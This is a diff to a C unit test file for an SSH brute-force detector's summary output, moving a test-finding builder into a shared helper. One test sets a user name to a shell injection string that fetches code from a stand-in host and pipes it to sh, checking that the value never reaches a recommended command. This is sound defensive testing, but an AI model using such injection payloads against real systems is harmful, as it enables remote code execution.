@@ -11,41 +11,7 @@
 #include "sinks/escape.h"
 #include "sinks/ocsf.h"
 #include "sinks/summary.h"
-
-static void make_finding(struct ag_finding *f, enum ag_rule rule, const char *key)
-{
-    memset(f, 0, sizeof *f);
-    strcpy(f->uid, "0123456789abcdef0123456789abcdef");
-    f->activity = AG_ACTIVITY_CREATE;
-    f->rule = (uint8_t)rule;
-    f->severity = AG_SEV_HIGH;
-    f->rule_name = ag_rule_name(rule);
-    f->title = "SSH brute force";
-    f->technique_id = "T1110.001";
-    f->technique_name = "Password Guessing";
-    f->tactic_id = "TA0006";
-    f->tactic_name = "Credential Access";
-    f->threshold = 6;
-    f->observed = 57;
-    f->window_s = 60;
-    f->time_ms = 1735689900000LL;
-    f->created_ms = f->time_ms;
-    f->first_seen_ms = 1735689600000LL;
-    f->last_seen_ms = f->time_ms;
-    f->counts.failures = 57;
-    snprintf(f->key, sizeof f->key, "%s", key);
-    if (ag_addr_parse(key, strlen(key), &f->key_addr) == 0) {
-        f->key_kind = AG_KEY_SRC;
-    } else {
-        f->key_kind = AG_KEY_USER;
-        f->key_addr.af = AG_AF_NONE;
-    }
-    strcpy(f->users[0], "admin");
-    strcpy(f->users[1], "root");
-    f->n_users = 2;
-    strcpy(f->hosts[0], "web-1");
-    f->n_hosts = 1;
-}
+#include "tests/unit/finding_check.h"
 
 static char *build(const struct ag_finding *f, const struct ag_summary_config *cfg)
 {
@@ -59,7 +25,7 @@ START_TEST(public_source_gets_nacl_deny_not_sg_revoke)
     struct ag_finding f;
     struct ag_summary_config cfg;
     ag_summary_config_defaults(&cfg);
-    make_finding(&f, AG_RULE_BRUTEFORCE, "203.0.113.45");
+    fc_finding(&f, AG_RULE_BRUTEFORCE, "203.0.113.45");
     char *s = build(&f, &cfg);
     ck_assert_ptr_nonnull(strstr(s, "Key findings\n"));
     ck_assert_ptr_nonnull(strstr(s, "Recommended actions\n"));
@@ -89,7 +55,7 @@ START_TEST(restrict_ssh_authorizes_before_revoking_both_families)
     ag_summary_config_defaults(&cfg);
     cfg.instance = &in;
     cfg.trusted_ssh_cidr = "198.51.100.0/24";
-    make_finding(&f, AG_RULE_BRUTEFORCE, "203.0.113.45");
+    fc_finding(&f, AG_RULE_BRUTEFORCE, "203.0.113.45");
     char *s = build(&f, &cfg);
     const char *auth = strstr(s, "authorize-security-group-ingress --group-id sg-0abc");
     const char *rev4 = strstr(s, "revoke-security-group-ingress --group-id sg-0abc --protocol "
@@ -116,7 +82,7 @@ START_TEST(private_and_allowlisted_sources_are_never_blocked)
     ag_summary_config_defaults(&cfg);
     const char *priv[] = {"10.1.2.3", "192.168.1.9", "172.16.0.1", "127.0.0.1", "fd00::1"};
     for (size_t i = 0; i < sizeof priv / sizeof priv[0]; i++) {
-        make_finding(&f, AG_RULE_BRUTEFORCE, priv[i]);
+        fc_finding(&f, AG_RULE_BRUTEFORCE, priv[i]);
         char *s = build(&f, &cfg);
         ck_assert_msg(strstr(s, "create-network-acl-entry") == NULL, "%s blocked", priv[i]);
         ck_assert_ptr_nonnull(strstr(s, "Do not block"));
@@ -125,7 +91,7 @@ START_TEST(private_and_allowlisted_sources_are_never_blocked)
     ck_assert_int_eq(ag_cidr_parse("198.51.100.0/24", 15, &allow), 0);
     cfg.allowlist = &allow;
     cfg.n_allowlist = 1;
-    make_finding(&f, AG_RULE_BRUTEFORCE, "198.51.100.77");
+    fc_finding(&f, AG_RULE_BRUTEFORCE, "198.51.100.77");
     char *s = build(&f, &cfg);
     ck_assert_ptr_null(strstr(s, "create-network-acl-entry"));
     free(s);
@@ -137,7 +103,7 @@ START_TEST(ipv6_prefix_uses_ipv6_cidr_block)
     struct ag_finding f;
     struct ag_summary_config cfg;
     ag_summary_config_defaults(&cfg);
-    make_finding(&f, AG_RULE_BRUTEFORCE, "2001:db8:1:2::");
+    fc_finding(&f, AG_RULE_BRUTEFORCE, "2001:db8:1:2::");
     f.key_kind = AG_KEY_SRC64;
     char *s = build(&f, &cfg);
     ck_assert_ptr_nonnull(strstr(s, "--ipv6-cidr-block 2001:db8:1:2::/64"));
@@ -150,7 +116,7 @@ START_TEST(hostile_user_name_never_reaches_a_command)
     struct ag_finding f;
     struct ag_summary_config cfg;
     ag_summary_config_defaults(&cfg);
-    make_finding(&f, AG_RULE_COMPROMISE, "203.0.113.45");
+    fc_finding(&f, AG_RULE_COMPROMISE, "203.0.113.45");
     strcpy(f.users[1], "x';curl evil|sh;'\x1b[2J");
     char *s = build(&f, &cfg);
     ck_assert_ptr_nonnull(strstr(s, "sudo loginctl terminate-user <user>"));
@@ -196,7 +162,7 @@ START_TEST(ocsf_finding_is_valid_and_complete)
     struct ag_finding f;
     struct ag_summary_config cfg;
     ag_summary_config_defaults(&cfg);
-    make_finding(&f, AG_RULE_BRUTEFORCE, "203.0.113.45");
+    fc_finding(&f, AG_RULE_BRUTEFORCE, "203.0.113.45");
     f.n_samples = 1;
     f.samples[0].time_ms = f.time_ms;
     f.samples[0].kind = AG_EV_INVALID_USER;
